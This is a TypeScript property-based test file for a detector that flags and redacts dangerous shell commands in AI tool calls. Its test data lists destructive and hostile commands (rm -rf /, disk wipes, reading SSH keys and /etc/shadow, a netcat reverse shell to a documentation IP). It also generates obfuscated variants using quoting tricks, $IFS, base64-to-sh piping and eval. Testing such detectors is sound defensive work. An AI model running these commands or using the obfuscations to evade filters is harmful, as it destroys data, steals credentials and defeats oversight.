import fc from 'fast-check'
import t from 'tap'
import { dangerousCommandDetector as detector } from '../dangerous-command/detector.ts'
import { redactText } from '../index.ts'
import { DANGEROUS_SHELL } from './support/dangerous-commands.ts'

const find = (text: string) => detector.detect(JSON.stringify({ command: text }), { source: 'tool_call', tool: 'bash' })

/** Ways to write a word so that a shell reads the same. */
const quotings: readonly ((word: string, seed: number) => string)[] = [
  (word) => word,
  (word) => `'${word}'`,
  (word) => `"${word}"`,
  (word, seed) => `${word.slice(0, seed % word.length)}''${word.slice(seed % word.length)}`,
  (word, seed) => `${word.slice(0, seed % word.length)}""${word.slice(seed % word.length)}`,
  (word) => [...word].map((char) => `\\${char}`).join(''),
  (word) => `$'${[...word].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
  (word, seed) => `${word.slice(0, seed % word.length)}$@${word.slice(seed % word.length)}`,
  (word) => (word.startsWith('-') ? word : `$(echo ${word})`),
  (word) => `$(printf %s ${word})`,
  (word) => `$(echo ${Buffer.from(word).toString('base64')} | base64 -d)`,
  (word) => (word.startsWith('-') ? word : `\`echo ${word}\``),
  (word) => `$(rev <<< ${[...word].reverse().join('')})`,
]
const separators = [' ', '  ', '\t', ' \\\n ', `$\{IFS}`, '$IFS$9']
const wrappers: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `sudo ${command}`,
  (command) => `sudo -u root nohup ${command} &`,
  (command) => `env -i A=b timeout 5 ${command}`,
  (command) => `cd /tmp && ${command}`,
  (command) => `true; ${command} || true`,
  (command) => `(${command})`,
  (command) => `{ ${command}; }`,
  (command) => `if true; then ${command}; fi`,
  (command) => `for i in 1; do ${command}; done`,
  (command) => `echo "$(${command})"`,
  (command) => `x=$(${command})`,
  (command) => `cat <(${command})`,
  (command) => `echo done # nothing\n${command}`,
  (command) => `ls | ${command}`,
]
const nestings: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `bash -c '${command.replaceAll("'", `'\\''`)}'`,
  (command) => `sh <<END\n${command}\nEND`,
  (command) => `echo ${Buffer.from(command).toString('base64')} | base64 -d | sh`,
  (command) => `eval "$(echo ${Buffer.from(command).toString('base64')} | base64 --decode)"`,
  (command) => `ssh host '${command.replaceAll("'", `'\\''`)}'`,
]
const plain = [
  { rule: 'delete-root', words: ['rm', '-rf', '/'] },
  { rule: 'delete-root', words: ['/bin/rm', '-r', '-f', '/etc'] },
  { rule: 'wipe-disk', words: ['dd', 'if=/dev/zero', 'of=/dev/sda'] },
  { rule: 'wipe-disk', words: ['mkfs.ext4', '/dev/sda1'] },
  { rule: 'credential-read', words: ['cat', '/root/.ssh/id_rsa'] },
  { rule: 'password-file-read', words: ['cat', '/etc/shadow'] },
  { rule: 'history-clear', words: ['history', '-c'] },
  { rule: 'mirror-push', words: ['git', 'push', '--mirror'] },
  { rule: 'infrastructure-destroy', words: ['terraform', 'destroy'] },
  { rule: 'reverse-shell', words: ['nc', '-e', '/bin/sh', '203.0.113.5', '4444'] },
]

t.test('however a dangerous command is quoted, wrapped and nested, it is found', async (t) => {
  fc.assert(
    fc.property(
      fc.constantFrom(...plain),
      fc.array(fc.record({ quoting: fc.constantFrom(...quotings), seed: fc.nat(50) }), { minLength: 6, maxLength: 6 }),
      fc.constantFrom(...separators),
      fc.constantFrom(...wrappers),
      fc.constantFrom(...nestings),
      ({ rule, words }, ways, separator, wrap, nest) => {
        const command = words.map((word, index) => ways[index]?.quoting(word, ways[index].seed) ?? word).join(separator)
        const text = nest(wrap(command))
        if (!find(text).some(({ ruleId }) => ruleId === rule)) throw new Error(text)
      },
    ),
    { numRuns: 3_000, seed: 6 },
  )
  t.pass()
})

t.test(
  'of any JSON text findings lie in strings, in order, and redaction leaves it valid and quiet there',
  async (t) => {
    const commands = Object.values(DANGEROUS_SHELL).flatMap((texts) => texts ?? [])
    const leaf = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.constantFrom(...commands),
      fc.tuple(fc.string(), fc.constantFrom(...commands)).map(([before, command]) => `${before}\n${command}`),
    )
    const keys = fc.constantFrom('command', 'code', 'sql', 'path', 'content', 'query', 'input', 'x', 'args')
    const value = fc.oneof(leaf, fc.array(leaf, { maxLength: 4 }), fc.dictionary(keys, leaf, { maxKeys: 3 }))
    fc.assert(
      fc.property(
        fc.dictionary(keys, value, { maxKeys: 4 }),
        fc.constantFrom('bash', 'python', 'execute_sql', 'write_file', 'x'),
        (args, tool) => {
          const text = JSON.stringify(args)
          const findings = detector.detect(text, { source: 'tool_call', tool })
          let at = 0
          for (const { start, end } of findings) {
            if (start < at || end <= start || end > text.length) throw new Error(`a bad span in ${text}`)
            at = end
          }
          JSON.parse(redactText(text, findings))
        },
      ),
      { numRuns: 2_000, seed: 7 },
    )
    t.pass()
  },
)

t.test('no text makes it throw', async (t) => {
  const piece = fc.constantFrom(
    'rm',
    ' ',
    '$(',
    ')',
    '"',
    "'",
    '`',
    '\\',
    '|',
    '<<E\n',
    '\n',
    '{',
    '}',
    '[',
    ']',
    ':',
    ',',
    '${',
    'x',
    '>',
    '&',
    ';',
    '/',
    'E\n',
    '<(',
    '-c ',
    'bash ',
    'eval ',
    'find -exec ',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      detector.detect(pieces.join(''), { source: 'tool_call', tool: 'bash' })
      find(pieces.join(''))
    }),
    { numRuns: 3_000, seed: 8 },
  )
  t.pass()
})
